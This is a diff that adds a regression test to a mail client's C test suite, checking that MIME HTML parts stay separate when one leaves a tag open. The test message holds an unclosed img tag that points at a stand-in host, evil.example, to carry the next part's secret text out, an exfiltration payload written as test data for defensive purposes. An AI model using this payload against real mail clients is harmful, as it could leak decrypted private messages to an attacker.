@@ -145,6 +145,29 @@ test_page (void)
   g_assert_error (error, MAIL_ERROR, MAIL_ERROR_NOT_FOUND);
 }
 
+// A part that leaves a tag open takes the next one's text, which may have been encrypted, into an
+// address that is loaded or a form that is sent (H8).
+static void
+test_parts_stay_apart (void)
+{
+  static const char text[] =
+    "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
+    "--b\r\nContent-Type: text/html\r\n\r\n<p>first</p><img src=\"http://evil.example/?\r\n"
+    "--b\r\nContent-Type: text/html\r\n\r\n<p>the secret</p>\r\n"
+    "--b\r\nContent-Type: text/html\r\n\r\n<p>last</p>\">\r\n--b--\r\n";
+  g_autoptr (GBytes) raw = g_bytes_new_static (text, sizeof text - 1);
+  g_autoptr (MimeMessage) message = mime_message_parse (raw);
+  g_autoptr (GPtrArray) bodies = load_bodies (message, NULL, NULL);
+
+  g_assert_cmpuint (bodies->len, ==, 3);
+  const MailBody *first = bodies->pdata[0], *secret = bodies->pdata[1], *last = bodies->pdata[2];
+  g_assert_nonnull (strstr (first->html, "first"));
+  g_assert_null (strstr (first->html, "secret"));
+  g_assert_null (strstr (first->html, "evil.example"));
+  g_assert_nonnull (strstr (secret->html, "<p>the secret</p>"));
+  g_assert_null (strstr (last->html, "secret"));
+}
+
 int
 main (int argc, char **argv)
 {
@@ -152,5 +175,6 @@ main (int argc, char **argv)
   g_test_add_func ("/account/files/a-message-of-a-file", test_load);
   g_test_add_func ("/account/files/a-part-as-a-file", test_write);
   g_test_add_func ("/account/files/a-page-that-is-attached", test_page);
+  g_test_add_func ("/account/files/parts-stay-apart", test_parts_stay_apart);
   return g_test_run ();
 }
